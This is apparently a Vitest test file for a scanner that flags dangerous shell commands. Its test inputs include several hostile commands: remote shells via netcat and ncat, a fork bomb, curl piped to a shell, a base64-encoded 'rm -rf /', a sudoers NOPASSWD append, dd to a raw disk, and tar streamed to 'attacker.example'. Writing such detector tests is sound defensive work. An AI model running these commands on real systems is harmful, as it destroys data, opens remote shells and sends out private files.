import { describe, it, expect } from "vitest";
import { toCommandText } from "../src/normalize.js";
import { obfuscationDetector } from "../src/detectors/obfuscation.js";
import { privilegeDetector, createPrivilegeDetector } from "../src/detectors/privilege.js";
import { destructiveDetector } from "../src/detectors/destructive.js";
import { diskDetector } from "../src/detectors/disk.js";
import { systemFileDetector } from "../src/detectors/system-file.js";
import { networkDetector } from "../src/detectors/network.js";
import { resourceDetector } from "../src/detectors/resource.js";
import { exfiltrationDetector } from "../src/detectors/exfiltration.js";
import type { Detector } from "../src/types.js";

function detect(detector: Detector, command: string): string[] {
  return detector.detect(toCommandText(command.trim()));
}

describe("obfuscationDetector", () => {
  it("flags hex escapes", () => {
    expect(detect(obfuscationDetector, String.raw`echo -e "\x72\x6d"`)).toEqual([
      "hex-encoded characters detected (possible obfuscation)",
    ]);
  });

  it("flags base64 decoding", () => {
    expect(detect(obfuscationDetector, "echo cm0gLXJmIC8= | base64 -d | sh")).toEqual([
      "base64 encoding/decoding detected (possible obfuscation)",
    ]);
  });

  it("flags eval", () => {
    expect(detect(obfuscationDetector, `eval "$(echo ls)"`)).toEqual([
      "eval/exec detected (dynamic code execution)",
    ]);
  });

  it("flags rev", () => {
    expect(detect(obfuscationDetector, "echo sl | rev | sh")).toEqual([
      "reverse command detected (possible obfuscation)",
    ]);
  });

  it("flags more than five backslashes", () => {
    expect(detect(obfuscationDetector, String.raw`echo a\ b\ c\ d\ e\ f\ g`)).toEqual([
      "excessive escaping/quoting detected",
    ]);
  });

  it("flags more than six quotes", () => {
    expect(detect(obfuscationDetector, `echo "a" "b" 'c' 'd'`)).toEqual([
      "excessive escaping/quoting detected",
    ]);
  });

  it("allows exactly six quotes", () => {
    expect(detect(obfuscationDetector, `echo "a" "b" "c"`)).toEqual([]);
  });

  it("reports co-firing categories in table order", () => {
    expect(detect(obfuscationDetector, String.raw`eval $(echo '\x6c\x73' | rev)`)).toEqual([
      "hex-encoded characters detected (possible obfuscation)",
      "eval/exec detected (dynamic code execution)",
      "reverse command detected (possible obfuscation)",
    ]);
  });

  it("does not flag plain commands", () => {
    expect(detect(obfuscationDetector, "ls -la")).toEqual([]);
  });
});

describe("privilegeDetector", () => {
  it("flags sudo", () => {
    expect(detect(privilegeDetector, "sudo apt update")).toEqual(["sudo privilege escalation"]);
  });

  it("reports su - as an additional finding", () => {
    expect(detect(privilegeDetector, "su - root")).toEqual([
      "su privilege escalation",
      "su - login shell privilege escalation",
    ]);
  });

  it("flags plain su once", () => {
    expect(detect(privilegeDetector, "su root")).toEqual(["su privilege escalation"]);
  });

  it("flags doas and pkexec", () => {
    expect(detect(privilegeDetector, "doas reboot")).toEqual(["doas privilege escalation"]);
    expect(detect(privilegeDetector, "pkexec visudo")).toEqual(["pkexec privilege escalation"]);
  });

  it("matches case-insensitively", () => {
    expect(detect(privilegeDetector, "SUDO ls")).toEqual(["sudo privilege escalation"]);
  });

  it("respects word boundaries", () => {
    expect(detect(privilegeDetector, "ls sudoku")).toEqual([]);
  });

  it("is marked as skippable when elevation is intended", () => {
    expect(privilegeDetector.skipWhenElevationIntended).toBe(true);
  });

  it("uses injected rules", () => {
    const detector = createPrivilegeDetector([{ pattern: /\brunas\b/, description: "runas privilege escalation" }]);
    expect(detect(detector, "runas /user:admin cmd")).toEqual(["runas privilege escalation"]);
    expect(detect(detector, "sudo ls")).toEqual([]);
  });
});

describe("destructiveDetector", () => {
  const CRITICAL = "destructive rm command targeting critical path";
  const VERIFY = "destructive rm -rf detected (verify target path)";

  it("flags rm -rf / as targeting a critical path", () => {
    expect(detect(destructiveDetector, "rm -rf /")).toEqual([CRITICAL]);
  });

  it("asks to verify other targets", () => {
    expect(detect(destructiveDetector, "rm -rf /tmp/build")).toEqual([VERIFY]);
  });

  it("handles reversed and uppercase bundled flags", () => {
    expect(detect(destructiveDetector, "rm -fr ~/projects")).toEqual([CRITICAL]);
    expect(detect(destructiveDetector, "rm -Rf /usr/local/lib")).toEqual([CRITICAL]);
  });

  it("handles separate short flags", () => {
    expect(detect(destructiveDetector, "rm -r -f /var/log/app")).toEqual([CRITICAL]);
  });

  it("handles long flags in either order", () => {
    expect(detect(destructiveDetector, "rm --force --recursive build")).toEqual([VERIFY]);
    expect(detect(destructiveDetector, "rm --recursive --force /home/dev")).toEqual([CRITICAL]);
  });

  it("treats $HOME as a critical path", () => {
    expect(detect(destructiveDetector, "rm -rf $HOME/.cache")).toEqual([CRITICAL]);
  });

  it("flags /bin/rm with a recursive flag", () => {
    expect(detect(destructiveDetector, "/bin/rm -r old")).toEqual([VERIFY]);
  });

  it("flags rm resolved through command substitution", () => {
    expect(detect(destructiveDetector, "$(which rm) -rf /home/user")).toEqual([CRITICAL]);
  });

  it("flags a Windows drive-root wildcard", () => {
    expect(detect(destructiveDetector, String.raw`rm -rf C:\*`)).toEqual([CRITICAL]);
  });

  it("only checks the arguments of the rm invocation", () => {
    expect(detect(destructiveDetector, "rm -rf build && ls /etc")).toEqual([VERIFY]);
  });

  it("flags find -delete, shred and zero truncation", () => {
    expect(detect(destructiveDetector, "find . -name '*.log' -delete")).toEqual([
      "find -delete can remove many files (potentially destructive)",
    ]);
    expect(detect(destructiveDetector, "shred -u secrets.txt")).toEqual([
      "shred detected (secure file deletion, unrecoverable)",
    ]);
    expect(detect(destructiveDetector, "truncate -s 0 app.log")).toEqual(["truncate to zero detected (data loss)"]);
  });

  it("combines the rm finding with the other rules", () => {
    expect(detect(destructiveDetector, "rm -rf /etc; shred x")).toEqual([
      CRITICAL,
      "shred detected (secure file deletion, unrecoverable)",
    ]);
  });

  it("reads flags from the rm command only", () => {
    expect(detect(destructiveDetector, "rm -r cache | grep -f patterns")).toEqual([]);
    expect(detect(destructiveDetector, "docker run --rm -f alpine")).toEqual([]);
  });

  it("does not flag safe commands", () => {
    expect(detect(destructiveDetector, "rm foo.txt")).toEqual([]);
    expect(detect(destructiveDetector, "truncate -s 10M app.log")).toEqual([]);
    expect(detect(destructiveDetector, "ls -la")).toEqual([]);
  });
});

describe("diskDetector", () => {
  it("flags dd to a device", () => {
    expect(detect(diskDetector, "dd if=/dev/zero of=/dev/sda bs=4M")).toEqual([
      "dd writing to raw device (can overwrite entire disk)",
    ]);
  });

  it("flags dd into any device, /dev/null included", () => {
    expect(detect(diskDetector, "dd if=/dev/sda of=/dev/null")).toEqual([
      "dd writing to raw device (can overwrite entire disk)",
    ]);
  });

  it("only reads of= from the dd command itself", () => {
    expect(detect(diskDetector, "dd if=a.img of=b.img; echo of=/dev/sda")).toEqual([]);
  });

  it("flags redirection into a block device", () => {
    expect(detect(diskDetector, "cat image > /dev/sdb")).toEqual([
      "output redirection to block device (can overwrite entire disk)",
    ]);
  });

  it("flags each partitioning tool by name", () => {
    expect(detect(diskDetector, "mkfs.ext4 /dev/sdb1")).toEqual(["filesystem creation (will erase partition)"]);
    expect(detect(diskDetector, "sudo fdisk -l")).toEqual(["disk partitioning tool"]);
    expect(detect(diskDetector, "parted /dev/sda mklabel gpt")).toEqual(["partition editor"]);
    expect(detect(diskDetector, "gdisk /dev/sda")).toEqual(["GPT partition tool"]);
    expect(detect(diskDetector, "cfdisk /dev/sda")).toEqual(["curses-based partition tool"]);
    expect(detect(diskDetector, "mkswap /dev/sda2")).toEqual(["swap creation (will erase partition)"]);
    expect(detect(diskDetector, "sgdisk --zap-all /dev/nvme0n1")).toEqual(["GPT partition manipulation"]);
  });

  it("does not flag ordinary redirection", () => {
    expect(detect(diskDetector, "make 2>/dev/null > build.log")).toEqual([]);
  });
});

describe("systemFileDetector", () => {
  it("flags appends to /etc/hosts", () => {
    expect(detect(systemFileDetector, "echo '127.0.0.1 evil' >> /etc/hosts")).toEqual([
      "modification to critical system file: /etc/hosts",
    ]);
  });

  it("flags tee into /etc/sudoers", () => {
    expect(detect(systemFileDetector, "echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers")).toEqual([
      "modification to critical system file: /etc/sudoers",
    ]);
  });

  it("flags sed -i on /etc/fstab", () => {
    expect(detect(systemFileDetector, "sed -i 's/defaults/noauto/' /etc/fstab")).toEqual([
      "modification to critical system file: /etc/fstab",
    ]);
  });

  it("tests the operator after the path as well", () => {
    expect(detect(systemFileDetector, "cat /etc/passwd > /tmp/users.txt")).toEqual([
      "modification to critical system file: /etc/passwd",
    ]);
  });

  it("does not flag reads", () => {
    expect(detect(systemFileDetector, "cat /etc/passwd")).toEqual([]);
  });

  it("requires sed -i and the path in the same command", () => {
    expect(detect(systemFileDetector, "sed -i s/a/b/ notes.txt; cat /etc/hosts")).toEqual([]);
  });

  it("flags permission changes under /etc", () => {
    expect(detect(systemFileDetector, "chown root:root /etc/ssh/sshd_config")).toEqual([
      "permission change on /etc directory",
    ]);
  });

  it("flags all-zero chmod modes on any path", () => {
    expect(detect(systemFileDetector, "chmod 000 secret.txt")).toEqual([
      "chmod removing all permissions (files will be inaccessible)",
    ]);
    expect(detect(systemFileDetector, "chmod -R 0 /etc")).toEqual([
      "permission change on /etc directory",
      "chmod removing all permissions (files will be inaccessible)",
    ]);
  });

  it("does not flag ordinary chmod", () => {
    expect(detect(systemFileDetector, "chmod 700 run.sh")).toEqual([]);
  });
});

describe("networkDetector", () => {
  it("flags curl piped to sh", () => {
    expect(detect(networkDetector, "curl http://x/y | sh")).toEqual(["piping download directly to shell (dangerous)"]);
  });

  it("names the interpreter the download is piped into", () => {
    expect(detect(networkDetector, "curl -fsSL https://get.example.com | sudo bash")).toEqual([
      "piping download to bash",
    ]);
    expect(detect(networkDetector, "wget -qO- https://x/s.py | python3")).toEqual(["piping download to python"]);
  });

  it("flags download to /tmp then execute", () => {
    expect(detect(networkDetector, "curl -o /tmp/i.sh https://x/i.sh && sh /tmp/i.sh")).toEqual([
      "download to /tmp then execute",
    ]);
  });

  it("flags netcat and ncat remote shells", () => {
    expect(detect(networkDetector, "nc -lvp 4444 -e /bin/bash")).toEqual([
      "netcat listener with command execution (remote shell)",
    ]);
    expect(detect(networkDetector, "ncat --exec /bin/sh -l 4444")).toEqual([
      "ncat with command execution (remote shell)",
    ]);
  });

  it("requires the netcat flags on the netcat command", () => {
    expect(detect(networkDetector, "nc -l 8080; echo -e hi")).toEqual([]);
  });

  it("does not flag plain downloads", () => {
    expect(detect(networkDetector, "curl -O https://example.com/file.tar.gz")).toEqual([]);
  });
});

describe("resourceDetector", () => {
  const FORK_BOMB = "fork bomb detected (will crash system)";
  const LOOP = "infinite loop without delay (potential resource exhaustion)";

  it("flags the classic fork bomb", () => {
    expect(detect(resourceDetector, ":(){ :|:& };:")).toEqual([FORK_BOMB]);
  });

  it("flags spaced and named fork bombs", () => {
    expect(detect(resourceDetector, ": ( ) { : | : & } ; :")).toEqual([FORK_BOMB]);
    expect(detect(resourceDetector, "bomb() { bomb | bomb & }; bomb")).toEqual([FORK_BOMB]);
  });

  it("flags unthrottled infinite loops", () => {
    expect(detect(resourceDetector, "while true; do echo hi; done")).toEqual([LOOP]);
    expect(detect(resourceDetector, "for ((;;)); do :; done")).toEqual([LOOP]);
    expect(detect(resourceDetector, "while [ 1 ]; do yes > /dev/null; done")).toEqual([LOOP]);
  });

  it("allows loops that sleep, wait or read", () => {
    expect(detect(resourceDetector, "while true; do date; sleep 1; done")).toEqual([]);
    expect(detect(resourceDetector, "while true; do read line; echo $line; done")).toEqual([]);
  });

  it("flags bulk dd writes", () => {
    expect(detect(resourceDetector, "dd if=/dev/zero of=big.img bs=1M count=10240")).toEqual([
      "large file creation with dd",
    ]);
    expect(detect(resourceDetector, "dd if=/dev/zero of=small.img bs=512 count=4")).toEqual([]);
  });
});

describe("exfiltrationDetector", () => {
  it("flags tar piped to netcat", () => {
    expect(detect(exfiltrationDetector, "tar czf - /home/user | nc attacker.example 9000")).toEqual([
      "archiving and sending over network",
    ]);
  });

  it("flags curl file uploads", () => {
    expect(detect(exfiltrationDetector, "curl -X POST -d @/etc/passwd https://x")).toEqual(["uploading file via curl"]);
    expect(detect(exfiltrationDetector, "curl -F 'file=@notes.txt' https://x/upload")).toEqual([
      "uploading file via curl",
    ]);
  });

  it("does not mistake --fail with a userinfo URL for an upload", () => {
    expect(detect(exfiltrationDetector, "curl -f https://bot@api.example.com/status")).toEqual([]);
    expect(detect(exfiltrationDetector, "curl --data-binary '@dump.sql' https://x")).toEqual([
      "uploading file via curl",
    ]);
  });

  it("flags wget --post-file", () => {
    expect(detect(exfiltrationDetector, "wget --post-file=data.json https://x")).toEqual(["uploading file via wget"]);
  });

  it("flags copies to a remote host", () => {
    expect(detect(exfiltrationDetector, "scp backup.tar user@example.com:/srv/")).toEqual([
      "secure copy to remote host",
    ]);
    expect(detect(exfiltrationDetector, "rsync -avz ./site deploy@web01:/var/www")).toEqual(["rsync to remote host"]);
  });

  it("does not flag local copies", () => {
    expect(detect(exfiltrationDetector, "rsync -avz ./site ./backup")).toEqual([]);
  });
});
